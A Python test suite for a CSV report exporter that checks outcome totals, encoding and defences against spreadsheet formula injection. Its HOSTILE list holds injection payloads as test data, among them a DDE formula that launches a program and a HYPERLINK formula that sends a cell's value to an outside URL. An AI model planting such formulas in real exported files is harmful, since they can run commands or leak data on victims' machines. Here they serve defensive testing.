"""CSV: every outcome counted, cells that a spreadsheet takes for what they are, columns that stay."""

import csv
import io
import os
import shutil
import subprocess
from collections import Counter
from dataclasses import replace
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tipstaff.audit.decisions.audit import Audit
from tipstaff.report.tables.csv import COLUMNS, FORMULA, LONGEST, line, lines, safe
from tipstaff.report.wording.places import Places

REGISTER = Path("examples/register.xlsx")


def written(audit: Audit) -> str:
    return "".join(lines(audit, Places(audit, REGISTER)))


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def undone(cell: str) -> str:
    """A cell without its apostrophe, as the module says."""
    return cell[1:] if cell.startswith("'") and FORMULA.match(cell[1:]) else cell


@pytest.fixture(scope="module")
def rows(five: Audit) -> list[dict[str, str]]:
    return read(written(five))


def test_the_counts_of_all_rows_are_the_five_totals(rows: list[dict[str, str]], five: Audit) -> None:
    totals = Counter[str]()
    for row in rows:
        totals[row["outcome"]] += int(row["count"])
    assert totals == {outcome.word: count for outcome, count in five.totals().items()}
    assert len(totals) == 5
    assert all(totals.values())


def test_another_reader_finds_the_same_totals(five: Audit) -> None:
    frame = pl.read_csv(io.BytesIO(written(five).encode()))
    assert tuple(frame.columns) == COLUMNS
    assert dict(frame.group_by("outcome").agg(pl.col("count").sum()).iter_rows()) == {
        outcome.word: count for outcome, count in five.totals().items()
    }


def test_an_outcome_that_never_came_out_is_counted_too(example: Audit) -> None:
    waived = [row for row in read(written(example)) if row["outcome"] == "waived"]
    assert [row["count"] for row in waived] == ["0"]


def test_a_row_tells_the_finding_and_where_it_stands(rows: list[dict[str, str]]) -> None:
    one = next(row for row in rows if row["rule"] == "CLS-03" and row["outcome"] in ("finding", "waived"))
    assert one["severity"] == "high"
    assert one["cell"].startswith(f"{one['theme']}!")
    assert f"({one['cell']})" in one["evidence"]
    assert one["paragraph"] == "paragraph 3.1"
    assert one["message"]
    assert one["action"]
    assert one["because"]
    open_one = next(row for row in rows if row["outcome"] == "undetermined")
    assert open_one["missing"]


def test_a_waived_row_says_by_what(rows: list[dict[str, str]]) -> None:
    waived = [row for row in rows if row["outcome"] == "waived"]
    assert len(waived) == 2
    for row in waived:
        assert (row["waiver_reason"], row["waiver_approved_by"]) == ("Accepted by the panel.", "Monitoring Officer")
        assert (row["waiver_until"], row["waiver_place"]) == ("2017-03-31", "waivers.yaml:12")
        assert row["fingerprint"]


def test_it_is_what_excel_reads_as_utf_8_and_the_same_each_time(five: Audit) -> None:
    text = written(five)
    assert text.encode().startswith(b"\xef\xbb\xbf")
    assert text.count("\ufeff") == 1
    assert text == written(five)


def test_contact_details_are_not_there(five: Audit) -> None:
    assert "@" not in written(five)


def test_no_cell_begins_as_a_formula(rows: list[dict[str, str]]) -> None:
    numbers = {"count"}
    assert not [cell for row in rows for column, cell in row.items() if column not in numbers and FORMULA.match(cell)]


HOSTILE = [
    *(
        "=1+1",
        "+44 1803",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "'=1",
        '"=1',
        "＝1",
        "\u200b=1",
        "''=1",
        "\x00=1+1",
    ),
    *('=HYPERLINK("http://example.org?x="&A1)', "=cmd|' /C calc'!A0"),
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_looks_like_a_formula_is_made_text(text: str) -> None:
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "-5", "+3.25", "12", "O'Neill", "'quoted'", "a=b", "£5 - £6"])
def test_numbers_and_plain_texts_stay(text: str) -> None:
    assert safe(text) == text


@given(st.text() | st.builds("".join, st.lists(st.sampled_from("'\"=+-@＝ \t\r\nx1"))))
def test_any_text_is_safe_and_comes_back(text: str) -> None:
    cell = safe(text)
    assert undone(cell) == text
    assert cell in (text, f"'{text}")
    assert cell.startswith("'") or cell.lstrip()[:1] not in tuple("=+-@＝") or float(cell) is not None
    assert list(csv.reader(io.StringIO(line([text, "next"]), newline=""))) == [[cell, "next"]]


def test_a_cell_holds_no_more_than_a_spreadsheet_takes() -> None:
    assert len(safe("=" * 100_000)) <= LONGEST
    assert safe("x" * LONGEST) == "x" * LONGEST


def test_a_hostile_name_stays_in_its_cell(five: Audit) -> None:
    name = '=HYPERLINK("http://example.org","click"),\n"next'
    frame = five.facts.frame.with_columns(pl.lit(name).alias("name"))
    rows = read(written(replace(five, facts=replace(five.facts, frame=frame))))
    named = [row for row in rows if row["ref"]]
    assert {undone(row["name"]) for row in named} == {name}
    assert all(row["name"].startswith("'=") for row in named)
    assert len(rows) == len(read(written(five)))


def office() -> str:
    """LibreOffice: in CI it must be there."""
    found = shutil.which("soffice")
    if found is None:
        assert os.environ.get("TIPSTAFF_CI") != "1", "LibreOffice is not installed"
        pytest.skip("LibreOffice is not installed")
    return found


def test_a_spreadsheet_program_finds_texts_and_numbers_and_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "hostile.csv"
    path.write_text("\ufeff" + "".join(line(["row", text, 7]) for text in HOSTILE), encoding="utf-8", newline="")
    profile = (tmp_path / "profile").as_uri()
    options = ["--headless", f"-env:UserInstallation={profile}", "--convert-to", "xlsx", "--outdir", str(tmp_path)]
    subprocess.run([office(), *options, str(path)], check=True, capture_output=True, timeout=120)
    sheet = openpyxl.load_workbook(tmp_path / "hostile.xlsx").worksheets[0]
    assert [[cell.data_type for cell in row] for row in sheet.iter_rows()] == [["s", "s", "n"]] * len(HOSTILE)
